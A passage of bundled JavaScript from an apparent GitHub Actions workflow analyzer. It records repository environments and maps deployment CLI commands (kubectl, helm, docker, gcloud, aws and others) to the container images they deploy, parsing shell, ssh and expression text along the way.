    const elsewhere = environmentsElsewhere?.find((one) => one.isRunning);
    const named = running?.environment;
    const location = running === undefined || named === undefined ? undefined : (0,locate/* locate */.x5)(running.workflow.file, named.scalar.span);
    const isRecorded = (named ?? elsewhere)?.isRecorded ?? true;
    return [{ environment, job: run?.job ?? '', location, isReached: true, isRecorded }];
}
function askedUse({ environment, run }, uses) {
    if (environment === undefined || uses.some((use) => isSameName(use.environment, environment)))
        return [];
    return [{ environment, job: run?.job ?? '', location: undefined, isReached: false, isRecorded: true }];
}
function isSameName(a, b) {
    return a.toLowerCase() === b.toLowerCase();
}

;// CONCATENATED MODULE: ./build/src/facts/environments.js




const actions = { actions: 'read' };
const contents = { contents: 'read' };
const environments = (0,define_fact/* defineFact */.u)({
    key: 'environments',
    needs: ['environmentUses'],
    scope: 'run',
    permissions: actions,
    tier: 1,
    collect: async ({ stage, environment }, { environmentUses }, { world: { platform } }) => {
        if (platform === undefined)
            return unknown_of/* notAsked */.Op;
        const listed = await platform.environments();
        if (listed.state !== 'value')
            return (0,unknown_of/* unknownOf */.KO)(listed, actions);
        const names = environmentUses.state === 'known' ? environmentUses.value.items.map((use) => use.environment) : [];
        const used = [...names, ...(environment === undefined ? [] : [environment])];
        const isUsed = ({ name }) => stage !== 'merge' && used.some((one) => isSameName(one, name));
        const items = [];
        const gaps = [];
        const refsOf = asker(platform);
        for (const one of listed.value) {
            const refs = isUsed(one) ? await refsOf(one) : unaskedOf(one);
            if ('cause' in refs)
                gaps.push(refs);
            items.push({ ...one, refs: 'cause' in refs ? unasked : refs });
        }
        return (0,core_facts/* known */.eO)({ items, gaps }, 'the environments of the repository');
    },
});
const unasked = { kind: 'unasked' };
function unaskedOf({ refs }) {
    return refs === 'any' ? { kind: 'any' } : unasked;
}
function asker(platform) {
    let branches;
    return async ({ name, refs }) => {
        switch (refs) {
            case 'any':
                return { kind: 'any' };
            case 'patterns': {
                const answer = await platform.refPatterns(name);
                return answer.state === 'value' ? { kind: 'patterns', patterns: answer.value } : (0,unknown_of/* gapOf */.iT)(name, answer, actions);
            }
            case 'protected-branches': {
                const answer = await (branches ??= platform.protectedBranches());
                return answer.state === 'value' ? { kind: 'protected-branches', branches: answer.value } : (0,unknown_of/* gapOf */.iT)(name, answer, contents);
            }
        }
    };
}

// EXTERNAL MODULE: ./build/src/workflow/command-purpose.js + 1 modules
var command_purpose = __webpack_require__(11764);
;// CONCATENATED MODULE: ./build/src/data/image-commands.js
const containerRunFlags = [
    '-d',
    '--detach',
    '-i',
    '--interactive',
    '-t',
    '--tty',
    '-it',
    '-ti',
    '-dt',
    '-td',
    '-di',
    '-id',
    '-dit',
    '-itd',
    '--rm',
    '--init',
    '--privileged',
    '--read-only',
    '-P',
    '--publish-all',
    '-dP',
    '--no-healthcheck',
    '--oom-kill-disable',
    '--sig-proxy',
    '--disable-content-trust',
    '-q',
    '--quiet',
    '--use-api-socket',
    '--replace',
];
const serviceFlags = [
    '-d',
    '--detach',
    '--init',
    '--no-healthcheck',
    '--no-resolve-image',
    '-q',
    '--quiet',
    '--read-only',
    '-t',
    '--tty',
    '--with-registry-auth',
];
const files = ['-f', '--filename'];
const imageCommands = {
    asOf: '2026-09-01',
    rows: [
        { programs: ['kubectl', 'oc'], words: [['set'], ['image']], images: [{ how: 'assigned' }], isCluster: true },
        { programs: ['kubectl', 'oc'], words: [['run']], images: [{ how: 'option', names: ['--image'] }], isCluster: true },
        {
            programs: ['kubectl', 'oc'],
            words: [['create'], ['deployment', 'deploy', 'job', 'cronjob', 'cj', 'deploymentconfig', 'dc']],
            images: [{ how: 'option', names: ['--image'] }],
            isCluster: true,
        },
        {
            programs: ['kubectl', 'oc'],
            words: [['apply', 'create', 'replace']],
            manifests: [
                { how: 'files', names: files, form: 'containers' },
                { how: 'kustomization', names: ['-k', '--kustomize'] },
            ],
            isCluster: true,
        },
        {
            programs: ['kapp'],
            words: [['deploy']],
            manifests: [{ how: 'files', names: ['-f', '--file'], form: 'containers' }],
            isCluster: true,
        },
        { programs: ['oc'], words: [['new-app']], images: [{ how: 'option', names: ['--image', '--docker-image'] }], isCluster: true },
        { programs: ['oc'], words: [['import-image']], images: [{ how: 'option', names: ['--from'] }], isCluster: true },
        {
            programs: ['helm'],
            words: [['upgrade', 'install']],
            images: [{ how: 'settings', names: ['--set', '--set-string', '--set-literal'] }],
            isCluster: true,
        },
        { programs: ['kustomize'], words: [['edit'], ['set'], ['image']], images: [{ how: 'assigned' }], isCluster: true },
        {
            programs: ['argocd'],
            words: [['app'], ['set', 'create']],
            images: [
                { how: 'settings', names: ['--helm-set', '--helm-set-string', '-p', '--parameter'] },
                { how: 'pairs', names: ['--kustomize-image'] },
            ],
        },
        {
            programs: ['docker', 'podman', 'nerdctl'],
            words: [['run']],
            images: [{ how: 'argument', flags: containerRunFlags }],
            where: 'lasting-machine',
        },
        {
            programs: ['docker', 'podman', 'nerdctl'],
            words: [['pull']],
            images: [{ how: 'argument', flags: ['-q', '--quiet', '-a', '--all-tags'] }],
            where: 'lasting-machine',
        },
        { programs: ['docker'], words: [['service'], ['update']], images: [{ how: 'option', names: ['--image'] }] },
        { programs: ['docker'], words: [['service'], ['create']], images: [{ how: 'argument', flags: serviceFlags }] },
        {
            programs: ['docker'],
            words: [['stack'], ['deploy', 'up']],
            manifests: [{ how: 'files', names: ['-c', '--compose-file'], form: 'compose' }],
        },
        {
            programs: ['docker', 'podman', 'nerdctl'],
            words: [['compose'], ['up']],
            manifests: [{ how: 'files', names: ['-f', '--file'], form: 'compose' }],
            where: 'lasting-machine',
        },
        {
            programs: ['docker-compose', 'podman-compose'],
            words: [['up']],
            manifests: [{ how: 'files', names: ['-f', '--file'], form: 'compose' }],
            where: 'lasting-machine',
        },
        {
            programs: ['gcloud'],
            words: [['run'], ['services', 'jobs'], ['replace']],
            manifests: [{ how: 'files', names: [], form: 'containers' }],
        },
        {
            programs: ['gcloud'],
            words: [['run'], ['deploy', 'services', 'jobs', 'worker-pools']],
            images: [{ how: 'option', names: ['--image'] }],
        },
        { programs: ['gcloud'], words: [['app'], ['deploy']], images: [{ how: 'option', names: ['--image-url'] }] },
        { programs: ['gcloud'], words: [['deploy'], ['releases'], ['create']], images: [{ how: 'pairs', names: ['--images'] }] },
        {
            programs: ['gcloud'],
            words: [['compute'], ['instances'], ['update-container', 'create-with-container']],
            images: [{ how: 'option', names: ['--container-image'] }],
        },
        {
            programs: ['aws'],
            words: [['lambda'], ['update-function-code']],
            images: [{ how: 'option', names: ['--image-uri'] }],
        },
        { programs: ['aws'], words: [['lambda'], ['create-function']], images: [{ how: 'pairs', names: ['--code'], key: 'ImageUri' }] },
        {
            programs: ['aws'],
            words: [['ecs'], ['register-task-definition', 'create-express-gateway-service', 'update-express-gateway-service']],
            images: [{ how: 'json', names: ['--container-definitions', '--primary-container', '--cli-input-json'] }],
            manifests: [
                { how: 'files', names: ['--cli-input-json', '--cli-input-yaml', '--container-definitions'], form: 'containers', scheme: 'file://' },
            ],
        },
        { programs: ['ecs-deploy'], words: [], images: [{ how: 'option', names: ['-i', '--image'] }] },
        {
            programs: ['az'],
            words: [['containerapp'], ['update', 'create', 'up', 'job']],
            images: [{ how: 'option', names: ['--image', '-i'] }],
            manifests: [{ how: 'files', names: ['--yaml'], form: 'containers' }],
        },
        {
            programs: ['az'],
            words: [['webapp', 'functionapp'], ['config'], ['container'], ['set']],
            images: [{ how: 'option', names: ['--container-image-name', '--docker-custom-image-name', '--image', '-i', '-c'] }],
        },
        {
            programs: ['az'],
            words: [['webapp', 'functionapp'], ['create']],
            images: [{ how: 'option', names: ['--container-image-name', '--deployment-container-image-name', '--image', '-i', '-c'] }],
        },
        { programs: ['az'], words: [['container'], ['create']], images: [{ how: 'option', names: ['--image'] }] },
        { programs: ['flyctl', 'fly'], words: [['deploy', 'launch']], images: [{ how: 'option', names: ['--image', '-i'] }] },
        {
            programs: ['fly', 'flyctl'],
            words: [['machine', 'machines', 'm'], ['update']],
            images: [{ how: 'option', names: ['--image', '-i'] }],
        },
        { programs: ['nomad'], words: [['run']], images: [{ how: 'settings', names: ['-var', '--var'] }] },
        { programs: ['nomad'], words: [['job'], ['run']], images: [{ how: 'settings', names: ['-var', '--var'] }] },
        { programs: ['terraform', 'tofu'], words: [['apply']], images: [{ how: 'settings', names: ['-var', '--var'] }] },
        { programs: ['cf'], words: [['push', 'v3-push']], images: [{ how: 'option', names: ['--docker-image', '-o'] }] },
        {
            programs: ['skopeo'],
            words: [['copy']],
            images: [
                { how: 'argument', flags: ['-a', '--all', '-q', '--quiet', '--preserve-digests', '--remove-signatures'], transport: 'docker' },
            ],
        },
        {
            programs: ['crane', 'gcrane'],
            words: [['copy', 'cp']],
            images: [{ how: 'argument', flags: ['-a', '--all-tags', '-n', '--no-clobber', '--insecure', '-v', '--verbose'] }],
        },
        {
            programs: ['regctl'],
            words: [['image'], ['copy', 'cp']],
            images: [{ how: 'argument', flags: ['--digest-tags', '--fast', '--force-recursive', '--include-external', '--referrers'] }],
        },
        {
            programs: ['oras'],
            words: [['copy', 'cp']],
            images: [{ how: 'argument', flags: ['-r', '--recursive', '-d', '--debug', '-v', '--verbose'] }],
        },
    ],
};

;// CONCATENATED MODULE: ./build/src/workflow/image-settings.js
const parts = {
    registry: 'registry',
    repository: 'name',
    repo: 'name',
    name: 'name',
    tag: 'tag',
    version: 'tag',
    digest: 'digest',
    sha: 'digest',
};
function settingImages(texts) {
    const owners = new Map();
    const mentions = [];
    for (const setting of texts.flatMap(settingsOf)) {
        if (setting.part === 'whole')
            mentions.push({ text: setting.value, hasName: true, hasVersion: true });
        else
            owners.set(setting.owner, [...(owners.get(setting.owner) ?? []), setting]);
    }
    return [...mentions, ...[...owners.values()].map(together)];
}
function together(settings) {
    const valueOf = (part) => settings.findLast((one) => one.part === part && one.value !== '')?.value;
    const [registry, name, tag, digest] = [valueOf('registry'), valueOf('name'), valueOf('tag'), valueOf('digest')];
    const named = name === undefined ? '' : registry === undefined ? name : `${registry}/${name}`;
    const version = digest !== undefined
        ? `@${/^[0-9a-f]{64}$/.test(digest) ? 'sha256:' : ''}${digest}`
        : tag === undefined
            ? ''
            : tag.startsWith('sha256:')
                ? `@${tag}`
                : `:${tag}`;
    const isVersioned = version !== '' || named.includes('@') || /:[^/]*$/.test(named);
    return { text: `${named}${version}`, hasName: name !== undefined, hasVersion: isVersioned };
}
function settingsOf(text) {
    return text.split(/(?<!\\),(?=[^,={}]{1,200}=)/).flatMap((pair) => {
        const equals = pair.indexOf('=');
        if (equals === -1)
            return [];
        const setting = settingOf(pair.slice(0, equals).trim(), pair
            .slice(equals + 1)
            .trim()
            .replaceAll('\\', ''));
        return setting === undefined ? [] : [setting];
    });
}
function settingOf(path, value) {
    const lower = path.toLowerCase();
    const flat = /^(.*?image)[._-]?(tag|version|digest|sha|repository|repo|registry|name)$/.exec(lower);
    const part = flat === null ? undefined : parts[flat[2] ?? ''];
    if (flat !== null && part !== undefined)
        return { owner: flat[1] ?? '', part, value };
    if (!/(?:^|[._-])image$/.test(lower))
        return undefined;
    return /[/:@$]/.test(value) ? { owner: lower, part: 'whole', value } : undefined;
}

;// CONCATENATED MODULE: ./build/src/workflow/image-arguments.js


const valued = new Set([
    '-n --namespace --context --kube-context --kubeconfig --cluster --user -s --server --token --as',
    '-H --host --config -l --log-level -f --file -p --project-name --project-directory --env-file',
    '--profile --region --project --output -o --account --endpoint-url --query --subscription -a --app',
].flatMap((names) => names.split(' ')));
const releases = new Set(['alpha', 'beta', 'preview']);
const rowsByProgram = new Map();
for (const row of imageCommands.rows) {
    for (const program of row.programs)
        rowsByProgram.set(program, [...(rowsByProgram.get(program) ?? []), row]);
}
const imagePrograms = [...rowsByProgram.keys()];
function mentionsOf(program) {
    for (const row of rowsByProgram.get(program.name.toLowerCase()) ?? []) {
        const rest = behindWords(row, program.arguments);
        if (rest === undefined)
            continue;
        const images = (row.images ?? []).flatMap((take) => imagesOf(take, program.arguments, rest.words));
        const manifests = (row.manifests ?? []).flatMap((take) => manifestsOf(take, program.arguments, rest.words));
        return { row, by: [program.name.toLowerCase(), ...rest.found].join(' '), images, manifests };
    }
    return undefined;
}
function behindWords({ words: wanted }, words) {
    const found = [];
    let at = 0;
    while (found.length < wanted.length) {
        const text = words[at]?.text;
        if (text === undefined)
            return undefined;
        if (text.startsWith('-'))
            at += valued.has(text) ? 2 : 1;
        else if (found.length === 0 && releases.has(text))
            at += 1;
        else if (wanted[found.length]?.includes(text) === true) {
            found.push(text);
            at += 1;
        }
        else
            return undefined;
    }
    return { found, words: words.slice(at) };
}
function imagesOf(take, all, rest) {
    switch (take.how) {
        case 'option':
            return optionValues(all, take.names).map(whole);
        case 'pairs':
            return optionValues(all, take.names).flatMap((text) => pairsOf(text, take.key).map(whole));
        case 'assigned':
            return rest.flatMap(({ text }) => {
                const equals = /^[^-=][^=]{0,252}=./.test(text) ? text.indexOf('=') : -1;
                return equals === -1 ? [] : [{ ...whole(text.slice(equals + 1)), replaces: text.slice(0, equals) }];
            });
        case 'settings':
            return settingImages(optionValues(all, take.names));
        case 'argument': {
            const text = argumentOf(rest, take.flags);
            return text === undefined || (take.transport !== undefined && !text.startsWith(`${take.transport}://`)) ? [] : [whole(text)];
        }
        case 'json':
            return optionValues(all, take.names).flatMap(jsonImages).map(whole);
    }
}
function whole(text) {
    return { text, hasName: true, hasVersion: true };
}
function optionValues(words, names) {
    return words.flatMap(({ text }, index) => {
        if (names.includes(text))
            return words[index + 1] === undefined ? [] : [words[index + 1]?.text ?? ''];
        const name = names.find((one) => text.startsWith(`${one}=`));
        return name === undefined ? [] : [text.slice(name.length + 1)];
    });
}
function pairsOf(text, key) {
    return text.split(',').flatMap((pair) => {
        const equals = pair.indexOf('=');
        return equals === -1 || (key !== undefined && pair.slice(0, equals).trim() !== key) ? [] : [pair.slice(equals + 1)];
    });
}
function argumentOf(words, flags) {
    for (let at = 0; at < words.length; at += 1) {
        const text = words[at]?.text ?? '';
        if (!text.startsWith('-'))
            return text;
        if (text !== '--' && !text.includes('=') && !flags.includes(text))
            at += 1;
    }
    return undefined;
}
function jsonImages(text) {
    return [...text.matchAll(/"image"\s{0,50}:\s{0,50}"([^"]{1,600})"/gi)].flatMap(([, image]) => (image === undefined ? [] : [image]));
}
function manifestsOf(take, all, rest) {
    if (take.how === 'kustomization') {
        return optionValues(all, take.names).map((path) => ({ paths: [path], form: 'kustomization' }));
    }
    const argument = take.names.length === 0 ? argumentOf(rest, []) : undefined;
    const given = take.names.length === 0 ? (argument === undefined ? [] : [argument]) : optionValues(all, take.names);
    const { scheme } = take;
    const paths = scheme === undefined ? given : given.flatMap((text) => (text.startsWith(scheme) ? [text.slice(scheme.length)] : []));
    if (take.form === 'compose')
        return [{ paths, form: take.form }];
    return paths.flatMap((path) => path.split(',')).map((path) => ({ paths: [path], form: take.form }));
}

// EXTERNAL MODULE: ./build/src/workflow/local-path.js
var local_path = __webpack_require__(35198);
// EXTERNAL MODULE: ./build/src/workflow/name-hint.js
var name_hint = __webpack_require__(38312);
// EXTERNAL MODULE: ./build/src/workflow/reading.js
var workflow_reading = __webpack_require__(61039);
;// CONCATENATED MODULE: ./build/src/workflow/image-place.js



function workingDirectory(own, job, workflow, file) {
    const isAction = file.path !== workflow.file.path;
    const text = own ?? (isAction ? undefined : (runDefault(job.defaults) ?? runDefault(workflow.defaults))) ?? '';
    return inDirectory(file.root, text.replace(/^\$\{\{\s{0,9}github\.workspace\s{0,9}\}\}\/?|^\$\{?GITHUB_WORKSPACE\}?\/?/i, './'));
}
function inDirectory(directory, path) {
    if (directory === undefined || /[$`*?[\]{}~]|^\/|^[A-Za-z]:|:\/\//.test(path))
        return undefined;
    const place = (0,local_path/* localPath */.$)(`${directory}/${path}`);
    return place === '..' || place.startsWith('../') ? undefined : place;
}
function runDefault(defaults) {
    const run = defaults?.kind === 'mapping' ? (0,workflow_reading/* fieldsOf */.Pf)(defaults).get('run')?.value : undefined;
    const value = run?.kind === 'mapping' ? (0,workflow_reading/* fieldsOf */.Pf)(run).get('working-directory')?.value : undefined;
    return value?.kind === 'scalar' ? value.value : undefined;
}
function deploysOnItsMachine(job) {
    const isDeploy = job.environment !== undefined || [job.id.value, job.name?.value ?? ''].some((name) => (0,name_hint/* nameHint */.j)(name) === 'deploy');
    return isDeploy && labelsOf(job.runsOn).some((label) => label.toLowerCase() === 'self-hosted');
}
function labelsOf(runsOn) {
    if (runsOn === undefined)
        return [];
    if (runsOn.kind === 'scalar')
        return [runsOn.value];
    const items = runsOn.kind === 'sequence' ? runsOn.items : runsOn.entries.filter(({ key }) => key.value === 'labels').map(({ value }) => value);
    return items.flatMap(labelsOf);
}

// EXTERNAL MODULE: ./build/src/workflow/shell.js + 4 modules
var shell = __webpack_require__(83670);
;// CONCATENATED MODULE: ./build/src/workflow/piped-manifests.js

const passing = new Set(['cat', 'envsubst', 'tee']);
const maxPipe = 20;
function pipedManifests(command, before) {
    const pipe = before.slice(-maxPipe).filter(({ pipeline }) => pipeline === command.pipeline);
    const changedBy = pipe
        .map((one) => (0,shell/* programOf */.o)(one)?.name.toLowerCase() ?? '')
        .find((name) => !passing.has(name) && name !== 'kustomize' && name !== 'kubectl');
    const manifests = [...pipe, command].flatMap((one) => [...printed(one), ...redirected(one)]);
    return manifests.map((manifest) => ({ ...manifest, changedBy }));
}
function printed(command) {
    const program = (0,shell/* programOf */.o)(command);
    const name = program?.name.toLowerCase();
    if (program === undefined)
        return [];
    const words = program.arguments.map(({ text }) => text);
    if ((name === 'kustomize' && words[0] === 'build') || (name === 'kubectl' && words[0] === 'kustomize')) {
        return [{ paths: [firstPath(words.slice(1)) ?? '.'], form: 'kustomization' }];
    }
    return name === 'cat' || name === 'sed' || name === 'yq' ? filesOf(program).map((path) => ({ paths: [path], form: 'containers' })) : [];
}
function firstPath(words) {
    return words.find((word, index) => !word.startsWith('-') && !/^(?:-o|--output|--load-restrictor|--helm-command)$/.test(words[index - 1] ?? ''));
}
function filesOf({ arguments: words }) {
    return words.flatMap(({ text }) => (/^[^-].{0,4000}\.(?:ya?ml|json)$/.test(text) ? [text] : []));
}
function redirected({ redirects }) {
    return redirects.flatMap(({ operator, target }) => (operator === '<' ? [{ paths: [target.text], form: 'containers' }] : []));
}

// EXTERNAL MODULE: ./build/src/workflow/run-commands.js
var run_commands = __webpack_require__(37045);
// EXTERNAL MODULE: ./build/src/workflow/span-in-file.js + 1 modules
var span_in_file = __webpack_require__(44859);
;// CONCATENATED MODULE: ./build/src/workflow/command-mentions.js







const anyProgram = new RegExp(`\\b(?:ssh|${imagePrograms.join('|')})\\b`, 'i');
function mayMention(script) {
    return anyProgram.test(script);
}
function commandMentions({ step, file, env }, job, workflow) {
    if (step.kind !== 'run')
        return [];
    return mentionsIn((0,run_commands/* runCommands */.a)(step.run), {
        isElsewhere: false,
        deploysHere: deploysOnItsMachine(job),
        env,
        script: step.run,
        directory: workingDirectory(step.workingDirectory?.value, job, workflow, file),
        spanOf: (span) => (0,span_in_file/* spanInFile */.U)(file, step.run, span),
    });
}
function scriptMentions(text, input, { env, file }, isElsewhere) {
    if (!mayMention(text))
        return [];
    const spanOf = () => input.alias ?? input.span;
    return mentionsIn((0,shell/* commandsOf */.K)(text), {
        isElsewhere,
        deploysHere: false,
        env,
        script: input,
        directory: isElsewhere ? undefined : file.root,
        spanOf,
    });
}
function mentionsIn(commands, scene) {
    let directory = scene.directory;
    return commands.flatMap((command, index) => {
        const program = (0,shell/* programOf */.o)(command);
        if (program === undefined)
            return [];
        if (program.name === 'cd' || program.name === 'pushd')
            directory = inDirectory(directory, program.arguments[0]?.text ?? '~');
        const remote = program.name === 'ssh' ? remoteCommands(command, program, scene.script.value) : undefined;
        if (remote !== undefined) {
            return mentionsIn(remote, { ...scene, isElsewhere: true, directory: undefined, spanOf: () => scene.spanOf(command.span) });
        }
        return mentionOf(command, program, commands.slice(0, index), { ...scene, directory });
    });
}
function mentionOf(command, program, before, scene) {
    const found = mentionsOf(program);
    if (found === undefined || (0,command_purpose/* changesNothing */.TY)(command))
        return [];
    const { row, by, images, manifests } = found;
    if (row.where === 'lasting-machine' && !isLasting(command, program, scene))
        return [];
    const own = scene.isElsewhere ? [] : manifests.flatMap((mention) => withInput(mention, command, before, scene));
    if (images.length + own.length === 0)
        return [];
    const span = scene.spanOf(command.span);
    return [{ by, span, isCluster: row.isCluster === true, images, manifests: own, script: scene.script, replaced: [] }];
}
function withInput(mention, command, before, { directory }) {
    if (mention.paths.includes('-'))
        return pipedManifests(command, before).map((piped) => ({ ...piped, directory }));
    const names = new Set(mention.paths);
    const changing = before.flatMap((one) => {
        const name = (0,shell/* programOf */.o)(one)?.name.toLowerCase() ?? '';
        return editors.has(name) && one.words.some(({ text }) => names.has(text)) ? [name] : [];
    });
    return [{ ...mention, directory, changedBy: changing[0] }];
}
const editors = new Set(['sed', 'gsed', 'perl', 'yq', 'envsubst', 'awk', 'jq', 'cp', 'mv', 'tee', 'curl', 'wget', 'kubectl-slice', 'helm']);
function isLasting(command, program, { isElsewhere, deploysHere, env }) {
    if (isElsewhere)
        return true;
    const hosts = program.arguments.flatMap(({ text }, index) => {
        if (/^(?:-H|--host|--context|-c)$/.test(text))
            return [program.arguments[index + 1]?.text ?? ''];
        return /^--(?:host|context)=/.test(text) ? [text.slice(text.indexOf('=') + 1)] : [];
    });
    const assigned = command.assignments.flatMap(({ name, value }) => (isHostVariable(name) ? [value.text] : []));
    const set = env.flatMap((layer) => layer.flatMap(({ name, value }) => (isHostVariable(name.value) && value.kind === 'scalar' ? [value.value] : [])));
    if ([...hosts, ...assigned, ...set].some(isOtherHost))
        return true;
    return deploysHere && program.arguments.some(({ text }) => text === '--detach' || /^-[a-z]{0,4}d[a-z]{0,4}$/i.test(text));
}
function isHostVariable(name) {
    return /^DOCKER_(?:HOST|CONTEXT)$/i.test(name);
}
function isOtherHost(text) {
    return text !== '' && text !== 'default' && !text.startsWith('unix:') && !text.startsWith('npipe:') && !(0,command_purpose/* isOwnMachine */.Wo)(text);
}
const sshOptions = /^-[BbcDEeFIiJLlmOoPpQRSWw]$/;
function remoteCommands({ redirects }, { arguments: words }, script) {
    let at = 0;
    while (words[at]?.text.startsWith('-') === true)
        at += sshOptions.test(words[at]?.text ?? '') ? 2 : 1;
    const given = words
        .slice(at + 1)
        .map(({ text }) => text)
        .join(' ');
    const bodies = redirects.flatMap(({ body }) => (body === undefined ? [] : [script.slice(body.start, body.end)]));
    return [given, ...bodies].flatMap((text) => (text.trim() === '' ? [] : (0,shell/* commandsOf */.K)(text)));
}

// EXTERNAL MODULE: ./build/src/workflow/context-path.js
var context_path = __webpack_require__(22182);
// EXTERNAL MODULE: ./build/src/workflow/embedded-expressions.js
var embedded_expressions = __webpack_require__(45099);
;// CONCATENATED MODULE: ./build/src/workflow/shell-expansions.js
function shellExpansions(text) {
    const found = [];
    for (let at = 0; at < text.length; at += 1) {
        const character = text[at];
        if (character !== '$' && character !== '`')
            continue;
        if (text.startsWith('${{', at)) {
            const end = text.indexOf('}}', at);
            at = end === -1 ? text.length : end + 1;
            continue;
        }
        const one = character === '`' ? computed(at, closing(text, at + 1, '`')) : dollar(text, at);
        if (one === undefined)
            continue;
        found.push(one);
        at = one.span.end - 1;
    }
    return found;
}
function dollar(text, at) {
    const next = text[at + 1];
    if (next === '(')
        return computed(at, balanced(text, at + 1, '(', ')'));
    if (next === '{')
        return braced(text, at);
    const plain = /^\$(?:env:)?([A-Za-z_]\w{0,255})/i.exec(text.slice(at, at + 300));
    if (plain !== null)
        return { span: { start: at, end: at + plain[0].length }, name: plain[1] };
    return next !== undefined && /[0-9@*#?!$-]/.test(next) ? computed(at, at + 2) : undefined;
}
function braced(text, at) {
    const end = balanced(text, at + 1, '{', '}');
    const name = /^\$\{(?:env:)?([A-Za-z_]\w{0,255})\}$/i.exec(text.slice(at, Math.min(end, at + 300)))?.[1];
    return { span: { start: at, end }, name };
}
function computed(start, end) {
    return { span: { start, end }, name: undefined };
}
function closing(text, from, character) {
    const end = text.indexOf(character, from);
    return end === -1 ? text.length : end + 1;
}
function balanced(text, from, open, close) {
    let depth = 0;
    for (let at = from; at < text.length; at += 1) {
        if (text[at] === open)
            depth += 1;
        if (text[at] !== close)
            continue;
        depth -= 1;
        if (depth === 0)
            return at + 1;
    }
    return text.length;
}

// EXTERNAL MODULE: ./build/src/workflow/shell-variables.js
var shell_variables = __webpack_require__(56961);
// EXTERNAL MODULE: ./build/src/workflow/steps-before.js
var steps_before = __webpack_require__(46602);
// EXTERNAL MODULE: ./build/src/workflow/written-values.js
var written_values = __webpack_require__(43175);
;// CONCATENATED MODULE: ./build/src/workflow/expand-text.js







const maxReadings = 8;
const maxParts = 64;
const maxDepth = 24;
function expandText(text, scope) {
    return expand(text, scope, new Set()).map(joined);
}
function joined(parts) {
    const all = [];
    for (const part of parts) {
        const last = all.at(-1);
        if (part.kind === 'text' && part.text === '')
            continue;
        if (part.kind === 'text' && last?.kind === 'text')
            all[all.length - 1] = { kind: 'text', text: last.text + part.text };
        else
            all.push(part);
    }
    return all;
}
function expand(text, scope, seen) {
    const found = [
        ...(0,embedded_expressions/* embeddedExpressions */.g)(text).map(({ inValue, expression }) => ({
            span: inValue,
            readings: () => ofExpression(expression, scope, seen),
        })),
        ...(scope.isScript ? shellExpansions(text) : []).map(({ span, name }) => ({
            span,
            readings: () => (name === undefined ? [hole(text.slice(span.start, span.end))] : ofVariable(name, scope, seen)),
        })),
    ].toSorted((a, b) => a.span.start - b.span.start);
    let readings = [[]];
    let at = 0;
    for (const { span, readings: next } of found) {
        if (span.start < at)
            continue;
        const before = { kind: 'text', text: text.slice(at, span.start) };
        readings = combined(readings, next().map((parts) => [before, ...parts]));
        at = span.end;
    }
    return combined(readings, [[{ kind: 'text', text: text.slice(at) }]]);
}
function combined(heads, tails) {
    const all = heads.flatMap((head) => tails.map((tail) => [...head, ...tail].slice(0, maxParts)));
    return all.slice(0, maxReadings);
}
function hole(name) {
    return [{ kind: 'hole', name: name.slice(0, 100) }];
}
function ofExpression(expression, scope, seen) {
    if (expression.kind === 'literal')
        return [[{ kind: 'text', text: String(expression.value ?? '') }]];
    if (expression.kind === 'binary' && expression.operator === '||') {
        return [...ofExpression(expression.left, scope, seen), ...ofExpression(expression.right, scope, seen)].slice(0, maxReadings);
    }
    if (expression.kind === 'binary' && expression.operator === '&&')
        return ofExpression(expression.right, scope, seen);
    if (expression.kind === 'call' && expression.name.toLowerCase() === 'format')
        return ofFormat(expression.arguments, scope, seen);
    const path = (0,context_path/* contextPath */.V)(expression);
    return path === undefined ? [hole('an expression')] : ofPath(path, scope, seen);
}
function ofFormat([template, ...values], scope, seen) {
    if (template?.kind !== 'literal')
        return [hole('format')];
    let readings = [[]];
    for (const part of String(template.value).split(/(\{\{|\}\}|\{\d{1,3}\})/)) {
        const value = /^\{\d+\}$/.test(part) ? values[Number(part.slice(1, -1))] : undefined;
        const text = part === '{{' || part === '}}' ? part.slice(1) : part;
        readings = combined(readings, value === undefined ? [[{ kind: 'text', text }]] : ofExpression(value, scope, seen));
    }
    return readings;
}
function ofPath(path, scope, seen) {
    const name = path.join('.').toLowerCase();
    const [context, first = '', second = '', third = ''] = path;
    const key = `${context} ${first} ${second} ${third}`;
    if (seen.size > maxDepth || seen.has(key))
        return [hole(name)];
    const within = new Set([...seen, key]);
    switch (context) {
        case 'env':
            return ofVariable(first, scope, seen);
        case 'inputs':
            return ofInput(first, scope);
        case 'github':
            return first.toLowerCase() === 'event' && second.toLowerCase() === 'inputs' ? ofInput(third, scope) : [hole(name)];
        case 'steps': {
            const written = second.toLowerCase() === 'outputs' ? (0,written_values/* writtenOutput */.T)(scope.before, first, third) : undefined;
            return written === undefined ? [hole(name)] : ofWritten(written, scope, within);
        }
        case 'needs': {
            const output = second.toLowerCase() === 'outputs' ? scope.jobOutput?.(first, third) : undefined;
            return output === undefined ? [hole(name)] : expand(output.text, output.scope, within);
        }
        default:
            return [hole(name)];
    }
}
function ofInput(name, scope) {
    const sources = scope.input(name);
    if (sources.length === 0)
        return [hole(`inputs.${name.toLowerCase()}`)];
    const readings = sources.map((source) => source.kind === 'literal' && !/[$`]/.test(source.text)
        ? [{ kind: 'text', text: source.text }]
        : hole(`inputs.${name.toLowerCase()}`));
    return readings.slice(0, maxReadings);
}
function ofVariable(name, scope, seen) {
    const key = `env ${scope.env.length} ${name.toLowerCase()}`;
    if (seen.size > maxDepth || seen.has(key))
        return [hole(name)];
    const within = new Set([...seen, key]);
    const assigned = scope.isScript && scope.script !== undefined ? (0,shell_variables/* assignedIn */.k8)(scope.script, name) : [];
    if (assigned.length > 0)
        return assigned.flatMap((text) => expand(text, scope, within)).slice(0, maxReadings);
    for (const [index, layer] of scope.env.entries()) {
        const value = (0,workflow_callers/* valueOf */.RP)(layer, name);
        if (value?.kind !== 'scalar')
            continue;
        return expand(value.value, { ...scope, env: scope.env.slice(index + 1), before: steps_before/* noSteps */.j, isScript: false }, within);
    }
    const written = (0,written_values/* writtenVariable */.E)(scope.before, name);
    if (written !== undefined)
        return ofWritten(written, scope, within);
    const around = (scope.around?.(name) ?? []).flatMap((source) => (source.kind === 'literal' ? [source.text] : []));
    return around.length === 0 ? [hole(name)] : around.map((text) => [{ kind: 'text', text }]).slice(0, maxReadings);
}
function ofWritten({ step, index, text }, scope, seen) {
    const before = { steps: scope.before.steps, count: index };
    return expand(text, { ...scope, env: [step.env, ...scope.env.slice(1)], before, isScript: true, script: step.run }, seen);
}

;// CONCATENATED MODULE: ./build/src/data/image-inputs.js
const imageInputs = {
    asOf: '2026-09-01',
    rows: [
